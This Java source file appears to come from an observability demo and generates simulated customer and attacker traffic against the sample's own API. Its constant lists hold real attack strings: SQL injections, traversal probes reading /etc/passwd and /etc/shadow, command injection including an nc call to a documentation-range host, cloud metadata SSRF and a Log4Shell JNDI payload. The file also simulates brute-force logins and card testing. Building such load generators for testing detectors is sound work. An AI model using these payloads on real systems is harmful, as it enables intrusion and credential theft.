package dev.aisd.observability.sample.traffic;

import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.function.BooleanSupplier;

/**
 * The traffic generator's scenarios: which mix of good and hostile requests one
 * scenario sends and from which simulated client. Good customers come from
 * 198.51.100.0/24, attackers from 203.0.113.0/24 (documentation ranges). When and how
 * often a scenario runs is {@link TrafficGenerator}'s business.
 */
final class TrafficScenarios {

	private static final List<String> BOT_AGENTS = List.of("curl/8.5.0", "python-requests/2.32.3",
			"Scrapy/2.11.2 (+https://scrapy.org)", "Mozilla/5.0 HeadlessChrome/131.0", "Go-http-client/2.0", "");

	private static final List<String> GOOD_QUERIES = List.of("lantern", "rope", "comp", "tent", "stove", "map", "");

	private static final List<String> SQL_INJECTIONS = List.of("' OR 1=1 --", "1 UNION SELECT username, password FROM users",
			"x'; DROP TABLE items; --", "1 AND SLEEP(5)", "' OR 'a'='a", "1 and 1=1",
			"' UNION ALL SELECT table_name FROM information_schema.tables --", "admin'--");

	private static final List<String> HONEYPOTS = List.of("/wp-admin", "/wp-login.php", "/.env", "/.git/config",
			"/phpmyadmin/index.php");

	private static final List<String> FIREWALL_PATHS = List.of("/api/items;jsessionid=0AF3", "/api/items/%252e%252e",
			"/api/items/..;/admin/report", "/api/items/%2e%2e/admin");

	private static final List<String> PROBED_PATHS = List.of("/api/items", "/api/search", "/api/items/export");

	private static final List<String> USERNAMES = List.of("admin", "root", "demo", "test", "guest", "support");

	/** Probes an intrusion scanner sprays over any endpoint's parameters: name, value. */
	private static final List<List<String>> INTRUSION_PROBES = List.of(List.of("file", "../../../../etc/passwd"),
			List.of("template", "..\\..\\windows\\win.ini"), List.of("q", "; cat /etc/passwd"),
			List.of("q", "$(whoami)"), List.of("host", "127.0.0.1 | nc 203.0.113.66 4444"),
			List.of("callback", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
			List.of("image", "http://localhost:8080/actuator/env"), List.of("url", "file:///etc/shadow"),
			List.of("q", "${jndi:ldap://203.0.113.66:1389/a}"));

	/** Well-known test card numbers (Luhn-valid), as carding bots and careless users send them. */
	private static final List<String> CARD_NUMBERS = List.of("4111111111111111", "5555 5555 5555 4444",
			"378282246310005", "4012-8888-8888-1881", "6011111111111117");

	private static final List<String> EMAILS = List.of("jane.doe@example.com", "j.smith+orders@example.org");

	private final TrafficRequests requests;

	private final String demoPassword;

	private final BooleanSupplier running;

	/**
	 * Create the scenarios.
	 * @param requests how their requests are sent
	 * @param demoPassword the demo user's password, for the logins that should succeed
	 * @param running whether the generator still runs, so that a long burst stops at shutdown
	 */
	TrafficScenarios(TrafficRequests requests, String demoPassword, BooleanSupplier running) {
		this.requests = requests;
		this.demoPassword = demoPassword;
		this.running = running;
	}

	/**
	 * Run one scenario, chosen at random.
	 * @param spike whether an attack spike is under way (hostile scenarios only)
	 */
	void run(boolean spike) {
		ThreadLocalRandom random = ThreadLocalRandom.current();
		int roll = random.nextInt(100);
		if (spike) {
			hostileScenario(roll, random);
			return;
		}
		if (roll < 33) {
			this.requests.get("/api/items", goodClient(random), TrafficRequests.BROWSER);
		}
		else if (roll < 43) {
			this.requests.get("/api/items/" + (random.nextInt(10) < 8 ? random.nextInt(1, 4) : 9), goodClient(random),
					TrafficRequests.BROWSER);
		}
		else if (roll < 54) {
			this.requests.search(pick(GOOD_QUERIES, random), goodClient(random), TrafficRequests.BROWSER);
		}
		else if (roll < 57) {
			this.requests.login("demo", this.demoPassword, goodClient(random), random.nextBoolean());
		}
		else if (roll < 59) {
			this.requests.basic("/api/account", "demo", this.demoPassword, goodClient(random));
		}
		else if (roll < 60) {
			this.requests.get("/api/account", goodClient(random), TrafficRequests.BROWSER);
		}
		else if (roll < 62) {
			this.requests.get("/api/items/export?limit=" + random.nextInt(10, 101), goodClient(random), TrafficRequests.BROWSER);
		}
		else if (roll < 64) {
			// A customer asked to prove being human; half of them browse with the user agent
			// stripped by a privacy extension, which the bot detector flags: their solved
			// CAPTCHA shows that verdict was a false positive.
			this.requests.captcha(goodClient(random), random.nextBoolean() ? TrafficRequests.BROWSER : "", random.nextInt(10) < 9,
					random);
		}
		else if (roll < 65) {
			// A customer pasting personal or payment data into the search box.
			this.requests.search(random.nextBoolean() ? pick(EMAILS, random) : pick(CARD_NUMBERS, random),
					goodClient(random), TrafficRequests.BROWSER);
		}
		else {
			hostileScenario(random.nextInt(100), random);
		}
	}

	private void hostileScenario(int roll, ThreadLocalRandom random) {
		String attacker = attacker(random);
		if (roll < 18) {
			this.requests.search(pick(SQL_INJECTIONS, random), attacker, pick(BOT_AGENTS, random));
		}
		else if (roll < 25) {
			this.requests.get(pick(HONEYPOTS, random), attacker, pick(BOT_AGENTS, random));
		}
		else if (roll < 37) {
			this.requests.login(pick(USERNAMES, random), "guess-" + random.nextInt(1000), attacker, random.nextBoolean());
		}
		else if (roll < 42) {
			this.requests.basic("/api/account", pick(USERNAMES, random), "hunter" + random.nextInt(100), attacker);
		}
		else if (roll < 45) {
			this.requests.basic("/api/admin/report", "demo", this.demoPassword, attacker);
		}
		else if (roll < 56) {
			this.requests.get("/api/items", attacker, pick(BOT_AGENTS, random));
		}
		else if (roll < 62) {
			// A burst well past the per-client capacity trips the rate limit; more than
			// half of it is refused, which the behaviour detector sees as a request burst
			// and an error burst.
			for (int i = 0; i < 50 && this.running.getAsBoolean(); i++) {
				this.requests.get("/api/items", attacker, TrafficRequests.BROWSER);
			}
		}
		else if (roll < 67) {
			this.requests.get(pick(FIREWALL_PATHS, random), attacker, pick(BOT_AGENTS, random));
		}
		else if (roll < 77) {
			List<String> probe = pick(INTRUSION_PROBES, random);
			this.requests.getWithParameter(pick(PROBED_PATHS, random), probe.get(0), probe.get(1), attacker,
					pick(BOT_AGENTS, random));
		}
		else if (roll < 82) {
			this.requests.get("/api/items/export?limit=" + (1000 * random.nextInt(1, 100)), attacker,
					pick(BOT_AGENTS, random));
		}
		else if (roll < 85) {
			// Walking through item ids to copy the catalogue, most of which do not exist.
			int first = random.nextInt(1, 1000);
			for (int id = first; id < first + 20 && this.running.getAsBoolean(); id++) {
				this.requests.get("/api/items/" + id, attacker, pick(BOT_AGENTS, random));
			}
		}
		else if (roll < 95) {
			// A bot meeting a CAPTCHA: it mostly fails; a solver service sometimes passes.
			this.requests.captcha(attacker, pick(BOT_AGENTS, random), random.nextInt(10) < 2, random);
		}
		else {
			// Card testing: stolen card numbers sent as query parameters.
			this.requests.getWithParameter("/api/items", "card", pick(CARD_NUMBERS, random), attacker,
					pick(BOT_AGENTS, random));
		}
	}

	private static String goodClient(ThreadLocalRandom random) {
		return "198.51.100." + random.nextInt(1, 201);
	}

	private static String attacker(ThreadLocalRandom random) {
		return "203.0.113." + random.nextInt(1, 255);
	}

	private static <T> T pick(List<T> values, ThreadLocalRandom random) {
		return values.get(random.nextInt(values.size()));
	}

}
